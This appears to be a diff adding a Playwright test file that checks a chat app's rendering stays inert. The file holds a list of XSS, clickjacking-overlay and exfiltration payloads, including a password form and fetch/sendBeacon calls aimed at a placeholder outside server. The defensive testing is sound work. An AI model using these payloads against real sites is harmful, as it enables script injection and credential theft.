@@ -1,0 +1,171 @@
+"""Whatever a model, a file or a guest writes: it runs nothing, covers nothing and loads nothing."""
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from engine.chats import Chats
+from tests.app_process import RunningApp, running_app
+from tests.browser.chat_page import ChatPage
+from tests.browser.conftest import TIMEOUT_MS
+from tests.loopback_server import Reply, Server
+from tests.ui.strangers import shared_app
+
+RUN = "window.owned=1;document.title='owned'"
+# OUT stands for the address of a server outside, which nothing may ever ask.
+PAYLOADS = {
+    "script": f"<script>{RUN}</script>",
+    "script from outside": '<script src="OUT/x.js"></script>',
+    "image handler": f'<img src=x onerror="{RUN}">',
+    "svg handler": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
+    "svg in mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
+    "details handler": f'<details open ontoggle="{RUN}">x</details>',
+    "javascript link": f'<a href="javascript:{RUN}" id="evil-link">here</a>',
+    "javascript markdown": f"[here](javascript:{RUN.replace(';', '%3B')})",
+    "data link": "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="OUT/f">',
+    "object": '<object data="OUT/o"></object><embed src="OUT/e">',
+    "overlay": '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Signed out'
+               "</div>",
+    "overlay by style": "<style>.evil{position:fixed;inset:0;z-index:9999;background:red}"
+                        'body{display:none!important}</style><div class="evil">x</div>',
+    "overlay by size": '<div style="width:9999px;height:9999px;margin:-2000px;background:red">x'
+                       "</div>",
+    "password form": '<form action="OUT/steal" method="post"><input type="password" name="p"'
+                     ' value="secret"><button id="evil-send">Sign in</button></form>',
+    "form button": '<button formaction="OUT/steal" form="x">x</button>',
+    "remote image": '<img src="OUT/pixel.png"> ![pixel](OUT/pixel.png)',
+    "remote picture": '<picture><source srcset="OUT/p.webp"><img srcset="OUT/p.png 2x"></picture>',
+    "remote video": '<video src="OUT/v.mp4" poster="OUT/v.png" autoplay></video>'
+                    '<audio src="OUT/a.mp3" autoplay></audio>',
+    "remote style": '<link rel="stylesheet" href="OUT/s.css"><style>@import "OUT/i.css";</style>',
+    "remote background": '<div style="background:url(OUT/b.png)">x</div>',
+    "remote input": '<input type="image" src="OUT/i.png">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=OUT/r">',
+    "base": '<base href="OUT/"><img src="relative.png">',
+    "prefetch": '<link rel="prefetch" href="OUT/p"><link rel="dns-prefetch" href="OUT">',
+    "diagram": "```mermaid\ngraph TD; A[\"<img src='OUT/m.png'>\"]-->B; "
+               f'click A "javascript:{RUN}"\n```',
+    "diagram with style": '```mermaid\n%%{init: {"themeCSS": "@import \'OUT/t.css\';'
+                          " .x{background:url(OUT/t.png)}\"}}%%\ngraph TD; A-->B\n```",
+    "formula": f"\\(\\href{{javascript:{RUN}}}{{x}}\\) $$\\includegraphics{{OUT/k.png}}$$"
+               " $$\\htmlStyle{position:fixed;inset:0;background:red}{x}$$",
+}  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def outside() -> Iterator[Server]:
+    """A server that answers everything and remembers who asked."""
+    server = Server(lambda _: Reply(200, b"x"), lambda _: None, [])
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def app(outside: Server, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
+    """An app in which a model has said every payload, thought it, and failed with it."""
+    folder = tmp_path_factory.mktemp("payloads")
+    (folder / "data").mkdir()
+    chats = Chats(folder / "data" / "chats.sqlite3")
+    for name, payload in PAYLOADS.items():
+        text = payload.replace("OUT", outside.url)
+        at = chats.create("pomona/guide", f"{name} {text}")
+        said = chats.add(at.chat_id, at.revision, None, "user", f"{name}\n\n{text}")
+        chats.add(
+            at.chat_id, said.revision, said.message_id, "assistant", f"Well.\n\n{text}",
+            model_id=f"evil/{text}", reasoning=f"Hm. {text}",
+            details={"error": text, "reason": "stop"},
+        )  # fmt: skip
+    chats.close()
+    with running_app(folder) as app:
+        yield app
+
+
+@pytest.fixture(scope="module")
+def page(browser: Browser, app: RunningApp) -> Iterator[Page]:
+    """One browser for all of them: what one payload does would be seen by the next as well."""
+    context = browser.new_context(viewport={"width": 1440, "height": 900})
+    page = context.new_page()
+    page.set_default_timeout(TIMEOUT_MS)
+    yield page
+    context.close()
+
+
+def load(page: Page, app: RunningApp) -> None:
+    page.goto(app.url)
+    page.wait_for_selector("#model-status .ready")
+
+
+def is_harmless(page: Page, url: str, outside: Server) -> None:
+    """Nothing ran, nothing left, and everything of ours can still be pressed."""
+    page.wait_for_timeout(400)  # time for what should not happen
+    assert page.evaluate("window.owned") is None
+    assert page.evaluate("document.title") == "Pomona" and page.url.rstrip("/") == url
+    assert [(r.method, r.path) for r in outside.requests] == []
+    for place in ("#message textarea", "#new-chat", "#model input", "#message .submit-button"):
+        assert page.evaluate(
+            """(place) => {
+              const box = document.querySelector(place);
+              const {left, top, width, height} = box.getBoundingClientRect();
+              const there = document.elementFromPoint(left + width / 2, top + height / 2);
+              return box.contains(there) || there.contains(box);
+            }""",
+            place,
+        ), place
+
+
+@pytest.mark.parametrize("name", PAYLOADS)
+def test_what_a_model_says_thinks_and_fails_with_is_harmless(
+    page: Page, app: RunningApp, outside: Server, name: str
+) -> None:
+    load(page, app)
+    entry = page.locator("#chat-list [data-act=open]").filter(has_text=f"{name} ").first
+    entry.click()
+    expect(page.get_by_test_id("user").first).to_contain_text(re.compile(f"^\\s*{name}\\s"))
+    expect(page.locator("#log")).to_contain_text("Well.")
+    page.evaluate("document.querySelectorAll('#evil-send, #evil-link').forEach(b => b.click())")
+    is_harmless(page, app.url, outside)
+
+
+def test_the_pages_own_policy_stops_what_a_payload_would_load(
+    page: Page, app: RunningApp, outside: Server
+) -> None:
+    """Were markup to get through, the browser itself would refuse to load and to send."""
+    load(page, app)
+    page.evaluate(
+        """(out) => {
+          document.body.insertAdjacentHTML('beforeend', `<img src="${out}/i.png">
+            <iframe src="${out}/f"></iframe><video src="${out}/v"></video>
+            <link rel="stylesheet" href="${out}/s.css">
+            <form id="evil" action="${out}/steal" method="post"><input name="p"></form>`);
+          document.getElementById('evil').submit();
+          fetch(`${out}/fetch`).catch(() => 0);
+          navigator.sendBeacon(`${out}/beacon`, 'x');
+          const script = document.createElement('script');
+          script.src = `${out}/x.js`;
+          document.body.append(script);
+        }""",
+        outside.url,
+    )
+    is_harmless(page, app.url, outside)
+
+
+def test_a_guests_own_words_are_harmless_too(
+    browser: Browser, outside: Server, tmp_path: Path
+) -> None:
+    with shared_app(tmp_path) as app:
+        context = browser.new_context(viewport={"width": 390, "height": 844})
+        page = context.new_page()
+        page.set_default_timeout(TIMEOUT_MS)
+        page.goto(app.url)
+        page.wait_for_selector("#message textarea")
+        chat = ChatPage(page)
+        everything = "\n\n".join(PAYLOADS.values()).replace("OUT", outside.url)
+        for count, text in enumerate((everything[:3_900], everything[3_900:] or "x"), start=1):
+            chat.ask(text)
+            chat.wait_for_answers(count)
+        is_harmless(page, app.url, outside)
+        context.close()
